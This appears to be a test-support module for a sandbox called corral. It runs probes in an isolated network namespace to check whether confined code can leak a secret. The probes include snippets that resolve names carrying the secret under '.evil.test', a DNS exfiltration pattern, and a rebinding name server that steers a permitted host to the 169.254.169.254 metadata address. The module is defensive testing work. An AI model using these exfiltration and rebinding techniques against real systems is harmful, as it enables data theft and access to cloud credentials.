"""A network for one test alone: corral runs in it with the usual resolver, which asks the test's server.

`python -m support.net_alone CASE BACKEND` runs inside, in namespaces of its own for network and mounts, and
prints what happened; `lookups_alone` and `metadata_alone` start it. The host's network is out of its reach.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import NamedTuple

from support.net_leaks import PREAMBLE, SECRET
from support.net_runs import ALLOWED, probe_of, why_not

_TESTS = Path(__file__).resolve().parents[1]
_METADATA = "169.254.169.254"
_SECONDS = 100

_LOOK_UP = f"""
import subprocess
for name in (SECRET + ".evil.test", SECRET + ".{ALLOWED}.evil.test"):
    attempt(lambda: socket.getaddrinfo(name, 443))
    attempt(lambda: socket.getaddrinfo(name, 80, socket.AF_INET6))
    attempt(lambda: socket.gethostbyname(name))
    attempt(lambda: dial(name, 443))
    attempt(lambda: subprocess.run(["getent", "ahosts", name], capture_output=True, timeout=20))
"""
_FETCH = """
def send():
    with dial("metadata.example.test", 80) as stream:
        get(stream, "metadata.example.test", "/" + SECRET)
        return listen(stream)
attempt(send)
"""


class Alone(NamedTuple):
    """What the test's server got: unconfined, and then from corral and its command."""

    control: list[str]
    confined: list[str]
    output: str
    violations: list[str]  # hints


def why_not_alone(name: str) -> str:
    """Why a backend cannot be tried in a network of its own; empty if it can."""
    if os.geteuid() != 0:
        return "a network with a name server of its own needs root: its port is 53"
    missing = [program for program in ("unshare", "busybox") if shutil.which(program) is None]
    return f"{', '.join(missing)} not installed" if missing else why_not(name)


def lookups_alone(backend: str) -> Alone:
    """Names with the secret are looked up; what is returned are the names that the server was asked for."""
    return _start("lookups", backend)


def metadata_alone(backend: str) -> Alone:
    """A permitted name leads to 169.254.169.254; what is returned are the requests that its server got."""
    return _start("metadata", backend)


def _start(case: str, backend: str) -> Alone:
    command = [sys.executable, "-m", "support.net_alone", case, backend]
    done = subprocess.run(
        ["unshare", "--net", "--mount", "--", *command],
        env={**os.environ, "PYTHONPATH": str(_TESTS)},
        capture_output=True,
        text=True,
        timeout=_SECONDS,
        check=False,
    )
    if done.returncode != 0:
        raise RuntimeError(f"nothing was tried: {done.stdout}{done.stderr}")
    return Alone(**json.loads(done.stdout))


def _prepare(folder: Path) -> None:
    """Loopback, the address of metadata services, a resolver's file: all of it is gone with the process."""
    resolver, names = folder / "resolv.conf", folder / "nsswitch.conf"
    resolver.write_text("nameserver 127.0.0.1\noptions timeout:2 attempts:1\n")
    names.write_text("hosts: files dns\n")
    for command in (
        ("busybox", "ip", "link", "set", "lo", "up"),
        ("busybox", "ip", "address", "add", f"{_METADATA}/32", "dev", "lo"),
        ("mount", "--bind", str(resolver), os.path.realpath("/etc/resolv.conf")),
        ("mount", "--bind", str(names), os.path.realpath("/etc/nsswitch.conf")),
    ):
        subprocess.run(command, check=True)


def _main(case: str, backend: str) -> None:
    """Unconfined, then confined, with the same servers."""
    with tempfile.TemporaryDirectory(prefix="corral-alone-") as folder:
        _prepare(Path(folder))
        work = Path(folder) / "work"
        work.mkdir()
        os.environ["HOME"] = os.environ["XDG_STATE_HOME"] = folder
        tried = _try_lookups if case == "lookups" else _try_metadata
        print(json.dumps(tried(backend, work)._asdict()))


def _try_lookups(backend: str, work: Path) -> Alone:
    from support.net_dns import NameServer
    from support.net_web import WebServer

    with NameServer(port=53) as names, WebServer(port=80):
        control = _unconfined(_LOOK_UP)
        asked = names.names
        names.forget()
        output, violations = _confined(backend, work, _LOOK_UP)
        return Alone(asked, names.names, control if not asked else output, violations)


def _try_metadata(backend: str, work: Path) -> Alone:
    """The permitted name `api` leads to loopback, which is granted; `metadata` to where it must not."""
    from support.net_dns import NameServer, read_question
    from support.net_web import WebServer

    class Rebinding(NameServer):
        def answer(self, packet: bytes) -> bytes | None:
            is_evil = read_question(packet)[0].startswith("metadata.")
            self.answers_with = _METADATA if is_evil else "127.0.0.1"
            return super().answer(packet)

    with Rebinding(port=53), WebServer(port=80), WebServer(address=_METADATA, port=80) as metadata:
        control = _unconfined(_FETCH)
        got = [request.target for request in metadata.requests]
        metadata.forget()
        output, violations = _confined(backend, work, _FETCH)
        metadata.settle()
        confined = [repr(data) for data in metadata.received]
        return Alone(got, confined, control if not got else output, violations)


def _unconfined(text: str) -> str:
    from support.confinement import PYTHON

    done = subprocess.run(
        (PYTHON, "-I", "-S", "-c", PREAMBLE + text), capture_output=True, text=True, check=False
    )
    return done.stdout + done.stderr


def _confined(backend: str, work: Path, text: str) -> tuple[str, list[str]]:
    from corral.model.feature import Feature
    from corral.policy.compose import build_policy
    from corral.sandbox import Sandbox
    from support.confinement import INTERPRETER, PYTHON

    grants = (
        f"network:http:{ALLOWED}",
        "network:http:127.0.0.1",
        "network:http:metadata.example.test",
        f"network:https:{ALLOWED}",
    )
    waived = frozenset(Feature) - probe_of(backend).enforces if backend == "landlock" else ()
    sandbox = Sandbox(
        build_policy("moderate", (*INTERPRETER, *grants)), backend=backend, workspace=work, waive=waived
    )
    result = sandbox.run((PYTHON, "-I", "-S", "-c", PREAMBLE + text))
    return result.stdout + result.stderr, [found.hint for found in result.violations]


if __name__ == "__main__":
    assert SECRET in PREAMBLE
    _main(*sys.argv[1:])
